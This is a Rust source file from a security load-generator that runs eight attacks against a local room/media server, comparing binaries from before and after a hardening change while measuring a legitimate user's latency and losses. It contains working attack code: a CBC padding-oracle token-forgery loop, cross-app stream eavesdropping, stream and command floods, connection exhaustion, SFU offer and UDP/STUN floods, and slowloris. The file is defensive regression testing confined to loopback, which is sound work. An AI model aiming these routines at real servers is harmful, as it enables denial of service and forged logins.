//! `zrooms-loadgen security`: each attack of the hardening issue, run from one address
//! (127.0.0.2) as fast as this machine lets it, against a server binary from before the
//! hardening and one from after, while a user on 127.0.0.1 goes on as usual. Measured for the
//! user: a broadcast's round trip to another member of its room (p99), a new user's connect,
//! hello and login (p99, and how many failed), the video frames of one 640x360 stream lost at its
//! player; for the server: its peak resident memory and CPU. Each attack also says what it got.
//!
//! Every server runs the same config (valid for both binaries): the development default for
//! app 1 and app 2, and app 5 with a ServerSecret; nothing else is set, so "after" runs the new
//! defaults. Request loops are bounded by the window and stop by themselves; every target is on
//! 127.0.0.0/8.
// size: the catalogue of the security scenario's attacks, one function each, with the
// forged-token helpers they share; 650 lines because each attack is its own small procedure.

use crate::client::{room_id, stream_id, Client, Server, Window};
use crate::media::{attacker_peer, Probe};
use base64::Engine as _;
use futures_util::{SinkExt, StreamExt};
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tokio::io::AsyncWriteExt;
use tokio_tungstenite::tungstenite::Message;
use zrooms_proto::wire::*;
use zrooms_proto::UserId;

pub const ATTACKS: [&str; 8] = [
    "oracle",
    "cross-app",
    "streams",
    "command",
    "connections",
    "offers",
    "udp",
    "slowloris",
];

const SECRET: &str = "SecuritySecret0123456789abcdefgh";
const TOKEN_APP: u32 = 5;
const CONFIG: &str = "dev_default = true\n[[app]]\napp_id = 5\nmulti_room = true\nserver_secret = \"SecuritySecret0123456789abcdefgh\"\n";

fn attacker_ip() -> IpAddr {
    IpAddr::from([127, 0, 0, 2])
}

/// What one attack run measured.
pub struct Outcome {
    /// What the attack itself achieved, in words.
    pub attacker: String,
    pub broadcast_p99_ms: f64,
    pub broadcasts_lost: u64,
    pub join_p99_ms: f64,
    pub joins_failed: u64,
    pub video_sent: u64,
    pub video_received: u64,
    pub peak_rss_kib: u64,
    pub cores: f64,
}

/// Starts `bin` with the shared config, sets up the user's probes, runs `attack` for `seconds`
/// with the window open, and collects the figures.
pub async fn run(bin: &str, attack: &str, seconds: u32) -> Result<Outcome, String> {
    let path = std::env::temp_dir().join(format!("zrooms-security-{}.toml", std::process::id()));
    std::fs::write(&path, CONFIG).map_err(|e| e.to_string())?;
    let path_s = path.to_string_lossy().to_string();
    let server = Server::start(
        bin,
        &["--host", "127.0.0.1", "--port", "0", "--config", &path_s],
    )?;
    let mut probe = Probe::start(&server, "legit-media", "probe").await?;
    let broadcast = BroadcastProbe::start(&server).await?;
    // The first keyframes go round before counting starts.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let stop = Arc::new(AtomicBool::new(false));
    let peak = spawn_peak_rss(server.pid(), stop.clone());
    let joins = spawn_joins(server.url.clone(), stop.clone());
    let window = Window::open(&server);
    probe.open();
    broadcast.open();
    let until = Instant::now() + Duration::from_secs(seconds as u64);
    let attacker = match attack {
        "oracle" => oracle(&server, until).await,
        "cross-app" => cross_app(&server, &mut probe).await,
        "streams" => streams(&server, until).await,
        "command" => command(&server, until).await,
        "connections" => connections(&server, until).await,
        "offers" => offers(&server, until).await,
        "udp" => udp(&server, until).await,
        "slowloris" => slowloris(&server, until).await,
        other => Err(format!("unknown attack {other}")),
    }
    .unwrap_or_else(|e| format!("attack stopped: {e}"));
    tokio::time::sleep_until(until.into()).await;
    let (cpu, wall, _) = window.close(&server);
    stop.store(true, Ordering::Relaxed);
    let (bp99, blost) = broadcast.close().await;
    let (video_sent, got) = probe.close().await;
    let (jp99, jfailed) = joins.await.unwrap_or((f64::NAN, 0));
    let peak_rss_kib = peak.await.unwrap_or(0);
    let _ = std::fs::remove_file(&path);
    Ok(Outcome {
        attacker,
        broadcast_p99_ms: bp99,
        broadcasts_lost: blost,
        join_p99_ms: jp99,
        joins_failed: jfailed,
        video_sent,
        video_received: got.first().copied().unwrap_or(0),
        peak_rss_kib,
        cores: cpu / wall,
    })
}

fn spawn_peak_rss(pid: u32, stop: Arc<AtomicBool>) -> tokio::task::JoinHandle<u64> {
    tokio::spawn(async move {
        let mut peak = 0;
        while !stop.load(Ordering::Relaxed) {
            if let Some((_, rss)) = crate::client::proc_usage(pid) {
                peak = peak.max(rss);
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        peak
    })
}

/// Every 500 ms a new user connects from 127.0.0.1, says hello, logs in and leaves: p99 of the
/// time that took, and how many did not make it within 5 s.
fn spawn_joins(url: String, stop: Arc<AtomicBool>) -> tokio::task::JoinHandle<(f64, u64)> {
    tokio::spawn(async move {
        let mut times = Vec::new();
        let mut failed = 0;
        let mut n = 0;
        while !stop.load(Ordering::Relaxed) {
            n += 1;
            let t0 = Instant::now();
            let join = async {
                let mut c = Client::connect(&url).await?;
                c.login("legit-join", &format!("joiner{n}")).await?;
                Ok::<_, String>(c)
            };
            match tokio::time::timeout(Duration::from_secs(5), join).await {
                Ok(Ok(c)) => {
                    times.push(t0.elapsed().as_secs_f64() * 1000.0);
                    drop(c);
                }
                _ => failed += 1,
            }
            tokio::time::sleep(Duration::from_millis(500)).await;
        }
        (crate::client::pct(&mut times, 99.0), failed)
    })
}

/// Two members of a room: one broadcasts twice a second (ZEGO's per-user rate), the other
/// notes when each arrives.
struct BroadcastProbe {
    open: Arc<AtomicBool>,
    sent: Arc<Mutex<Vec<Instant>>>,
    delays: Arc<Mutex<Vec<f64>>>,
    tasks: Vec<tokio::task::JoinHandle<()>>,
}

impl BroadcastProbe {
    async fn start(server: &Server) -> Result<BroadcastProbe, String> {
        let mut a = Client::connect(&server.url).await?;
        a.login("legit-chat", "talker").await?;
        let mut b = Client::connect(&server.url).await?;
        b.login("legit-chat", "listener").await?;
        let open = Arc::new(AtomicBool::new(false));
        let sent = Arc::new(Mutex::new(Vec::<Instant>::new()));
        let delays = Arc::new(Mutex::new(Vec::new()));
        let listen = {
            let (sent, delays) = (sent.clone(), delays.clone());
            tokio::spawn(async move {
                while let Some(Ok(m)) = b.ws.next().await {
                    let Message::Text(t) = m else { continue };
                    let Ok(ServerMsg::Broadcast { messages, .. }) =
                        serde_json::from_str(t.as_str())
                    else {
                        continue;
                    };
                    for msg in messages {
                        let Ok(i) = msg.message.parse::<usize>() else {
                            continue;
                        };
                        if let Some(at) = sent.lock().ok().and_then(|s| s.get(i).copied()) {
                            if let Ok(mut d) = delays.lock() {
                                d.push(at.elapsed().as_secs_f64() * 1000.0);
                            }
                        }
                    }
                }
            })
        };
        let talk = {
            let (open, sent) = (open.clone(), sent.clone());
            tokio::spawn(async move {
                let mut tick = tokio::time::interval(Duration::from_millis(500));
                loop {
                    tick.tick().await;
                    if !open.load(Ordering::Relaxed) {
                        continue;
                    }
                    let i = match sent.lock() {
                        Ok(mut s) => {
                            s.push(Instant::now());
                            s.len() - 1
                        }
                        Err(_) => return,
                    };
                    let Ok(room) = room_id("legit-chat") else {
                        return;
                    };
                    let Ok((_, text)) = a.frame(Request::Broadcast {
                        room_id: room,
                        message: i.to_string(),
                    }) else {
                        return;
                    };
                    if a.ws.send(Message::text(text)).await.is_err() {
                        return;
                    }
                    // Replies and pushes to the talker are not needed.
                    while let Ok(Some(_)) =
                        tokio::time::timeout(Duration::from_millis(1), a.ws.next()).await
                    {
                    }
                }
            })
        };
        Ok(BroadcastProbe {
            open,
            sent,
            delays,
            tasks: vec![listen, talk],
        })
    }

    fn open(&self) {
        self.open.store(true, Ordering::Relaxed);
    }

    /// (p99 in ms, broadcasts sent that never arrived within a second of the window's end).
    async fn close(self) -> (f64, u64) {
        self.open.store(false, Ordering::Relaxed);
        tokio::time::sleep(Duration::from_secs(1)).await;
        for t in &self.tasks {
            t.abort();
        }
        let sent = self.sent.lock().map(|s| s.len()).unwrap_or(0) as u64;
        let mut d = self.delays.lock().map(|d| d.clone()).unwrap_or_default();
        let lost = sent.saturating_sub(d.len() as u64);
        (crate::client::pct(&mut d, 99.0), lost)
    }
}

fn token_cbc(user_id: &str, iv: [u8; 16]) -> Result<String, String> {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_err(|e| e.to_string())?
        .as_secs() as i64;
    let claims = zrooms_token::Claims {
        app_id: TOKEN_APP,
        user_id: user_id.into(),
        nonce: 1,
        ctime: now,
        expire: now + 3600,
        payload: String::new(),
    };
    zrooms_token::generate(&claims, SECRET.as_bytes(), zrooms_token::Layout::Cbc { iv })
        .map_err(|e| format!("{e:?}"))
}

// size: one attack: the forged tokens, the eight connections and the tally of answers, in the order they happen.
/// The padding oracle: eight connections log in with the attacker's own CBC token whose last
/// block is kept and whose IV is varied, as fast as the server answers. Reported: the answers
/// seen (two codes = an oracle).
async fn oracle(server: &Server, until: Instant) -> Result<String, String> {
    let own = token_cbc("mallory", *b"attackerattacker")?;
    let raw = base64::engine::general_purpose::STANDARD
        .decode(&own[2..])
        .map_err(|e| e.to_string())?;
    let last: Vec<u8> = raw.get(raw.len() - 16..).ok_or("short token")?.to_vec();
    let head: Vec<u8> = raw.get(..8).ok_or("short token")?.to_vec();
    let codes = Arc::new(Mutex::new(std::collections::BTreeMap::<u32, u64>::new()));
    let mut tasks = Vec::new();
    for k in 0..8u8 {
        let (codes, url, last, head) = (
            codes.clone(),
            server.url.clone(),
            last.clone(),
            head.clone(),
        );
        tasks.push(tokio::spawn(async move {
            let Ok(mut c) = Client::connect_from(&url, attacker_ip(), TOKEN_APP).await else {
                return;
            };
            let mut n: u32 = 0;
            while Instant::now() < until {
                n += 1;
                let mut iv = [0u8; 16];
                iv[15] = n as u8;
                iv[14] = (n >> 8) as u8;
                iv[0] = k;
                let mut forged = head.clone();
                forged.extend_from_slice(&16u16.to_be_bytes());
                forged.extend_from_slice(&iv);
                forged.extend_from_slice(&16u16.to_be_bytes());
                forged.extend_from_slice(&last);
                let token = format!(
                    "04{}",
                    base64::engine::general_purpose::STANDARD.encode(&forged)
                );
                let Ok(room) = room_id("vault") else { return };
                let (Ok(user_id), Ok(user_name)) = (
                    UserId::new("mallory"),
                    zrooms_proto::UserName::new("mallory"),
                ) else {
                    return;
                };
                let req = Request::Login {
                    room_id: room,
                    user: zrooms_proto::User { user_id, user_name },
                    config: LoginConfig {
                        multi_room: true,
                        token,
                        ..LoginConfig::default()
                    },
                };
                match c.code(req).await {
                    Ok(code) => {
                        if let Ok(mut m) = codes.lock() {
                            *m.entry(code).or_default() += 1;
                        }
                    }
                    Err(_) => return,
                }
            }
        }));
    }
    for t in tasks {
        let _ = t.await;
    }
    let m = codes.lock().map(|m| m.clone()).unwrap_or_default();
    let total: u64 = m.values().sum();
    let list: Vec<String> = m.iter().map(|(c, n)| format!("{c} x{n}")).collect();
    // 1002073 is the per-connection request rate, answered before the token is read.
    let token_answers = m.keys().filter(|c| **c != 1002073).count();
    Ok(format!(
        "{total} forged logins; answers {}; {}",
        list.join(", "),
        if token_answers > 1 {
            "two answers for forged tokens: an oracle"
        } else {
            "one answer: no oracle"
        }
    ))
}

/// A user of app 2 plays the probe's stream ID (published in app 1) and counts what it decodes.
async fn cross_app(server: &Server, probe: &mut Probe) -> Result<String, String> {
    let mut c = Client::connect_from(&server.url, attacker_ip(), 2).await?;
    c.login("legit-media", "eavesdropper").await?;
    let counters = probe.play(c).await?;
    let until = Instant::now() + Duration::from_secs(8);
    tokio::time::sleep_until(until.into()).await;
    Ok(format!(
        "app 2's player received {} video frames of app 1's stream in 8 s",
        counters.video.load(Ordering::Relaxed)
    ))
}

/// One user publishes up to 2,000 streams with 1,000 bytes of extra info each; a second session
/// logs into that room and out again, reading but never acknowledging.
async fn streams(server: &Server, until: Instant) -> Result<String, String> {
    let mut a = Client::connect_from(&server.url, attacker_ip(), 1).await?;
    a.login("squat", "squatter").await?;
    let info = "i".repeat(1000);
    let mut accepted = 0;
    for i in 0..2000 {
        if Instant::now() >= until {
            break;
        }
        let code = a
            .code(Request::Publish {
                room_id: room_id("squat")?,
                stream_id: stream_id(&format!("s{i}"))?,
                extra_info: info.clone(),
            })
            .await?;
        if code == 0 {
            accepted += 1;
        }
    }
    let mut b = Client::connect_from(&server.url, attacker_ip(), 1).await?;
    let mut logins = 0;
    let user = zrooms_proto::User {
        user_id: UserId::new("churner").map_err(|e| e.to_string())?,
        user_name: zrooms_proto::UserName::new("churner").map_err(|e| e.to_string())?,
    };
    while Instant::now() < until {
        let login = Request::Login {
            room_id: room_id("squat")?,
            user: user.clone(),
            config: LoginConfig {
                multi_room: true,
                ..LoginConfig::default()
            },
        };
        if b.code(login).await.is_err() {
            break;
        }
        logins += 1;
        if b.code(Request::Logout {
            room_id: room_id("squat")?,
        })
        .await
        .is_err()
        {
            break;
        }
    }
    Ok(format!(
        "{accepted} of 2000 streams published; {logins} unacknowledged logins of the room"
    ))
}

/// Custom commands to 27,000 recipients, back to back, in a room of the attacker's own.
async fn command(server: &Server, until: Instant) -> Result<String, String> {
    let mut a = Client::connect_from(&server.url, attacker_ip(), 1).await?;
    a.login("spam", "spammer").await?;
    let to: Vec<UserId> = (0..27_000)
        .filter_map(|i| UserId::new(format!("u{i}")).ok())
        .collect();
    let (mut sent, mut accepted) = (0, 0);
    while Instant::now() < until {
        let code = a
            .code(Request::CustomCommand {
                room_id: room_id("spam")?,
                command: "x".into(),
                to: to.clone(),
            })
            .await?;
        sent += 1;
        if code == 0 {
            accepted += 1;
        }
    }
    Ok(format!(
        "{sent} commands to 27,000 recipients sent, {accepted} accepted"
    ))
}

/// As many sessions (hello, no login) as one address gets, up to 19,000.
async fn connections(server: &Server, until: Instant) -> Result<String, String> {
    let mut held = Vec::new();
    let mut failed = 0;
    while Instant::now() < until && held.len() < 19_000 && failed < 1000 {
        match tokio::time::timeout(
            Duration::from_millis(500),
            Client::connect_from(&server.url, attacker_ip(), 1),
        )
        .await
        {
            Ok(Ok(c)) => held.push(c),
            _ => failed += 1,
        }
    }
    // Held until the window ends; count those still open then.
    tokio::time::sleep_until(until.into()).await;
    let mut open = 0;
    for c in &mut held {
        if tokio::time::timeout(Duration::from_millis(1), c.ws.next())
            .await
            .map_or(true, |m| matches!(m, Some(Ok(_))))
        {
            open += 1;
        }
    }
    Ok(format!(
        "{} sessions opened, {open} still open at the end, {failed} attempts failed",
        held.len()
    ))
}

/// Sessions that only said hello ask the SFU for peers, back to back.
async fn offers(server: &Server, until: Instant) -> Result<String, String> {
    let answered = Arc::new(AtomicU64::new(0));
    let refused = Arc::new(AtomicU64::new(0));
    let mut tasks = Vec::new();
    for _ in 0..64 {
        let (url, answered, refused) = (server.url.clone(), answered.clone(), refused.clone());
        tasks.push(tokio::spawn(async move {
            let Ok(mut c) = Client::connect_from(&url, attacker_ip(), 1).await else {
                return;
            };
            let Ok(sdp) = sample_offer() else { return };
            while Instant::now() < until {
                let req = Request::MediaOffer {
                    sdp: sdp.clone(),
                    tracks: Vec::new(),
                    fresh: true,
                };
                match tokio::time::timeout(Duration::from_secs(2), c.code(req)).await {
                    Ok(Ok(0)) => answered.fetch_add(1, Ordering::Relaxed),
                    Ok(Ok(_)) => refused.fetch_add(1, Ordering::Relaxed),
                    _ => return,
                };
            }
        }));
    }
    for t in tasks {
        let _ = t.await;
    }
    Ok(format!(
        "{} offers answered (SFU peers made), {} refused",
        answered.load(Ordering::Relaxed),
        refused.load(Ordering::Relaxed)
    ))
}

fn sample_offer() -> Result<String, String> {
    use str0m::media::{Direction, MediaKind};
    let mut rtc = str0m::Rtc::builder().build(Instant::now());
    let mut api = rtc.sdp_api();
    api.add_media(MediaKind::Audio, Direction::RecvOnly, None, None, None);
    let (offer, _) = api.apply().ok_or("no offer")?;
    Ok(offer.to_sdp_string())
}

/// Up to 1,000 attacker sessions each own an SFU peer (log in, publish, offer); then UDP junk
/// from 16 sockets and the attacker's own STUN request from fresh source ports, as fast as
/// this machine sends.
async fn udp(server: &Server, until: Instant) -> Result<String, String> {
    let media = server.media.ok_or("the server printed no media address")?;
    let mut peers = Vec::new();
    let mut stun = None;
    let setup_until = Instant::now() + Duration::from_secs(4);
    for i in 0..1000 {
        if Instant::now() >= setup_until.min(until) {
            break;
        }
        let made = async {
            let mut c = Client::connect_from(&server.url, attacker_ip(), 1).await?;
            c.login("udp", &format!("udp{i}")).await?;
            let stream = format!("udp{i}");
            c.request(Request::Publish {
                room_id: room_id("udp")?,
                stream_id: stream_id(&stream)?,
                extra_info: String::new(),
            })
            .await?;
            let (rtc, socket, s) = attacker_peer(&mut c, &stream).await?;
            Ok::<_, String>((c, rtc, socket, s))
        };
        match tokio::time::timeout(Duration::from_secs(2), made).await {
            Ok(Ok((c, rtc, socket, s))) => {
                if stun.is_none() {
                    stun = s;
                }
                peers.push((c, rtc, socket));
            }
            _ => break,
        }
    }
    let junk_sent = Arc::new(AtomicU64::new(0));
    let mut tasks = Vec::new();
    for k in 0..16u8 {
        let junk_sent = junk_sent.clone();
        tasks.push(tokio::spawn(async move {
            let Ok(s) = tokio::net::UdpSocket::bind((attacker_ip(), 0)).await else {
                return;
            };
            let mut junk = [0x80u8; 200];
            junk[1] = k;
            while Instant::now() < until {
                for _ in 0..64 {
                    let _ = s.send_to(&junk, media).await;
                }
                junk_sent.fetch_add(64, Ordering::Relaxed);
                tokio::task::yield_now().await;
            }
        }));
    }
    let mut sources = 0u64;
    if let Some(stun) = stun {
        while Instant::now() < until && sources < 60_000 {
            if let Ok(s) = std::net::UdpSocket::bind((attacker_ip(), 0)) {
                let _ = s.send_to(&stun, media);
                sources += 1;
            }
            if sources.is_multiple_of(256) {
                tokio::task::yield_now().await;
            }
        }
    }
    for t in tasks {
        let _ = t.await;
    }
    Ok(format!(
        "{} attacker peers; {} junk datagrams; STUN from {sources} source ports",
        peers.len(),
        junk_sent.load(Ordering::Relaxed)
    ))
}

/// 2,000 connections that send half a request head and wait.
async fn slowloris(server: &Server, until: Instant) -> Result<String, String> {
    let addr: SocketAddr = server
        .url
        .trim_start_matches("ws://")
        .parse()
        .map_err(|e| format!("{e}"))?;
    let mut held = Vec::new();
    for _ in 0..2000 {
        let Ok(socket) = tokio::net::TcpSocket::new_v4() else {
            break;
        };
        if socket.bind(SocketAddr::new(attacker_ip(), 0)).is_err() {
            break;
        }
        let Ok(Ok(mut tcp)) =
            tokio::time::timeout(Duration::from_millis(500), socket.connect(addr)).await
        else {
            continue;
        };
        let _ = tcp.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nUpgr").await;
        held.push(tcp);
    }
    let n = held.len();
    tokio::time::sleep_until(until.into()).await;
    // Those the server had already closed read as the end of the stream.
    let mut open = 0;
    for tcp in &mut held {
        let mut buf = [0u8; 16];
        if tokio::time::timeout(
            Duration::from_millis(1),
            tokio::io::AsyncReadExt::read(tcp, &mut buf),
        )
        .await
        .is_err()
        {
            open += 1;
        }
    }
    Ok(format!(
        "{n} partial heads sent, {open} still open at the end"
    ))
}
